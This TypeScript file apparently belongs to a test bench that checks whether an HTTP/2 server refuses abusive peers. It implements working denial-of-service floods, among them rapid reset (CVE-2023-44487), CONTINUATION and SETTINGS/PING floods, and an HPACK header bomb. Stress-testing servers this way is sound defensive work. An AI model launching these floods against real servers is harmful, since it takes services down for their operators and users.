/** What a peer with a good connection can do to an HTTP/2 server: each attack goes on until the node has refused it or the caller has enough. Journeys run each once, the bench many beside good firewalls. */
import { ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, frame, HEADERS, PADDED, PING, PRIORITY, RawH2, request, RST_STREAM, SETTINGS, WINDOW_UPDATE } from './raw-h2.ts';

export interface H2Attack {
  readonly name: string;
  /** Ends when the connection has ended or `wanted` says no. */
  readonly run: (raw: RawH2, path: string, wanted: () => boolean) => Promise<void>;
}

const PIECE = 32_768;
const get = (path: string, stream: number, flags = END_STREAM | END_HEADERS): Buffer => frame(HEADERS, flags, stream, request(path));
const word = (value: number): Buffer => { const bytes = Buffer.alloc(4); bytes.writeUInt32BE(value); return bytes; };
/** As many of it as make a piece. */
const many = (one: Buffer): Buffer => Buffer.concat(Array.from({ length: Math.ceil(PIECE / one.length) }, () => one));
/** Of requests with streams of their own, one piece after another. */
const streams = (of: (stream: number) => Buffer, count = 100): (() => Buffer) => {
  let next = 1;
  return () => Buffer.concat(Array.from({ length: count }, () => { next += 2; return of(next); }));
};
/** One upload is open, then come these. */
const inUpload = (piece: Buffer) => async (raw: RawH2, _: string, wanted: () => boolean): Promise<void> => {
  raw.send(frame(HEADERS, END_HEADERS, 1, request('/edge/v1/logs?format=eal&batch=flood', 'POST')));
  await raw.flood(piece, wanted);
};
const flood = (piece: Buffer) => (raw: RawH2, _: string, wanted: () => boolean): Promise<void> => raw.flood(piece, wanted);
/** Name and value once into the dynamic table, then references of one byte (RFC 7541 section 6). */
const bomb = (references: number): Buffer => Buffer.concat([Buffer.from([0x40, 1, 0x62, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 'y'), Buffer.alloc(references, 0xbe)]);

export const FRAME_ATTACKS: readonly H2Attack[] = [
  { name: 'rapid reset (CVE-2023-44487)', run: (raw, path, wanted) => raw.flood(streams((stream) => Buffer.concat([get(path, stream), frame(RST_STREAM, 0, stream, word(8))])), wanted) },
  { name: 'made to reset (CVE-2025-8671)', run: (raw, path, wanted) => raw.flood(streams((stream) => Buffer.concat([get(path, stream), frame(WINDOW_UPDATE, 0, stream, word(0))])), wanted) },
  { name: 'CONTINUATION with fields, never the last', run: async (raw, path, wanted) => {
    raw.send(get(path, 1, END_STREAM));
    await raw.flood(many(frame(CONTINUATION, 0, 1, Buffer.concat([Buffer.from([0, 1, 120, 100]), Buffer.alloc(100, 'y')]))), wanted);
  } },
  { name: 'CONTINUATION without a byte (CVE-2024-28182)', run: async (raw, path, wanted) => {
    raw.send(get(path, 1, END_STREAM));
    await raw.flood(many(frame(CONTINUATION, 0, 1)), wanted);
  } },
  { name: 'SETTINGS', run: flood(many(frame(SETTINGS, 0, 0))) },
  { name: 'SETTINGS that change every window', run: flood(many(Buffer.concat([frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])), frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]))]))) },
  { name: 'SETTINGS acknowledged without end', run: flood(many(frame(SETTINGS, ACK, 0))) },
  { name: 'PING', run: flood(many(frame(PING, 0, 0, Buffer.alloc(8)))) },
  { name: 'PING answered without being asked', run: flood(many(frame(PING, ACK, 0, Buffer.alloc(8)))) },
  { name: 'PING whose answers nobody reads', run: async (raw, _, wanted) => {
    raw.socket.pause();
    await raw.flood(many(frame(PING, 0, 0, Buffer.alloc(8))), wanted);
  } },
  { name: 'WINDOW_UPDATE of one byte', run: flood(many(frame(WINDOW_UPDATE, 0, 0, word(1)))) },
  { name: 'WINDOW_UPDATE of one byte for a stream', run: inUpload(many(frame(WINDOW_UPDATE, 0, 1, word(1)))) },
  { name: 'WINDOW_UPDATE of nothing for a stream', run: inUpload(many(frame(WINDOW_UPDATE, 0, 1, word(0)))) },
  { name: 'PRIORITY', run: flood(many(frame(PRIORITY, 0, 3, Buffer.from([0, 0, 0, 1, 16])))) },
  { name: 'frames of no known type', run: flood(many(frame(0xfa, 0, 0))) },
  { name: 'RST_STREAM of a stream that is gone', run: async (raw, path, wanted) => {
    raw.send(get(path, 1));
    await raw.flood(many(frame(RST_STREAM, 0, 1, word(8))), wanted);
  } },
  { name: 'DATA without a byte', run: inUpload(many(frame(DATA, 0, 1))) },
  { name: 'DATA of a byte', run: inUpload(many(frame(DATA, 0, 1, Buffer.from('\n')))) },
  { name: 'DATA of nothing but padding', run: inUpload(many(frame(DATA, PADDED, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)])))) },
  { name: 'a header bomb: one field of 4 kB, 10,000 references', run: (raw, path, wanted) => raw.flood(streams((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, Buffer.concat([request(path), bomb(10_000)])), 2), wanted) },
  { name: 'a header bomb within the limit of fields', run: (raw, path, wanted) => raw.flood(streams((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, Buffer.concat([request(path), bomb(58)])), 8), wanted) },
  { name: 'headers of a thousand fields', run: (raw, path, wanted) => raw.flood(streams((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path, 'GET', Array.from({ length: 1000 }, (_, n) => [`a${n}`, 'b'] as const))), 4), wanted) },
  { name: 'headers in capitals', run: (raw, path, wanted) => raw.flood(streams((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path, 'GET', [['Bad', 'x']]))), wanted) },
  { name: 'sizes of the header table', run: (raw, path, wanted) => raw.flood(streams((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, Buffer.concat([Buffer.from('203fe11f'.repeat(1000), 'hex'), request(path)])), 4), wanted) },
  { name: 'more streams than agreed', run: (raw, path, wanted) => raw.flood(streams((stream) => frame(HEADERS, END_HEADERS, stream, request(path, 'POST'))), wanted) },
  { name: 'requests as fast as they go', run: (raw, path, wanted) => raw.flood(streams((stream) => get(path, stream), 50), wanted) },
  { name: 'requests whose answers nobody reads', run: async (raw, path, wanted) => {
    raw.socket.pause();
    await raw.flood(streams((stream) => get(path, stream), 50), wanted);
  } },
  { name: 'noise instead of frames', run: flood(Buffer.alloc(4096, 'noise')) },
];
